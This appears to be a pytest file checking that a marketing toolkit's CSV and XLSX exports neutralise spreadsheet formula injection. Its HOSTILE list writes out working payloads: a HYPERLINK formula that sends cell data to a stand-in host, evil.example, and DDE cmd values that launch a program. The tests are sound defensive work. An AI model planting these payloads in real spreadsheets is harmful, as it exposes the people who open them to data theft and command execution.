"""No formula injection: every CSV and XLSX the toolkit writes keeps hostile text as text.

The hostile values are the classic ones (OWASP, "CSV Injection"): a cell starting with `=`,
`+`, `-` or `@` is evaluated when the file is opened in a spreadsheet.
"""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from click.testing import CliRunner

from smarketing_assess.core.spreadsheet import Figure, csv_text, safe_text, unescaped
from smarketing_assess.reading.form_tools import export
from smarketing_assess.reading.inputs import read_channels
from smarketing_assess.ui.cli import main
from tests.test_crm import FIXTURES

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Webinar")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_cell_is_prefixed_and_read_back_unchanged(value):
    assert safe_text(value) == "'" + value
    assert unescaped(safe_text(value)) == value
    assert safe_text("Organic search") == "Organic search" and unescaped("'quoted'") == "'quoted'"


def test_figures_and_numbers_are_written_as_numbers():
    text = csv_text([["spend", "change"], [Figure("-12.50"), -3], ["-12.50", None]])
    assert text == "spend,change\n-12.50,-3\n'-12.50,\n"  # only text that merely looks like a number is guarded


def test_crm_never_writes_a_live_formula_into_channels_csv(tmp_path, client):
    leads = (FIXTURES / "generic" / "leads.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(leads)))
    sources = sorted({r["source"] for r in rows})
    hostile = dict(zip(sources, HOSTILE, strict=False))
    for r in rows:
        r["source"] = hostile.get(r["source"], r["source"])
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    (tmp_path / "leads.csv").write_text(out.getvalue(), encoding="utf-8")
    result = CliRunner().invoke(main, ["crm", str(client), "--period", "2026-Q1",
                                       "--leads", str(tmp_path / "leads.csv"),
                                       "--mapping", "generic", "--force"])
    assert result.exit_code == 0, result.output
    written = client / "2026-Q1" / "channels.csv"
    with written.open(encoding="utf-8") as f:
        cells = [row[0] for row in csv.reader(f)][1:]
    used = [h for h in hostile.values() if h in {r["source"] for r in rows}]
    assert used and all(("'" + h) in cells for h in used)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    frame, _ = read_channels(written)  # the toolkit reads its own file back to the names as they were
    assert set(used) <= set(frame["channel"])


@pytest.fixture
def client(tmp_path):
    import shutil

    from tests.conftest import EXAMPLE
    copy = tmp_path / "client"
    shutil.copytree(EXAMPLE, copy)
    return copy


def hostile_bank(bank):
    first = bank.questions[0]
    question = dataclasses.replace(first, text={**first.text, "en": HOSTILE[0]})
    return dataclasses.replace(bank, questions=[question, *bank.questions[1:]])


def test_questionnaire_export_csv_keeps_a_hostile_question_text_as_text(bank):
    text = export(hostile_bank(bank), "csv").decode("utf-8")
    cells = [row[2] for row in csv.reader(io.StringIO(text))]
    assert "'" + HOSTILE[0] in cells and HOSTILE[0] not in cells


def test_questionnaire_export_xlsx_stores_a_hostile_question_text_as_a_string(bank):
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(export(hostile_bank(bank), "xlsx")))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row] + \
        [c for row in book.worksheets[1].iter_rows() for c in row]
    assert any(c.value == HOSTILE[0] for c in cells)
    assert all(c.data_type != "f" for c in cells)  # no formula anywhere
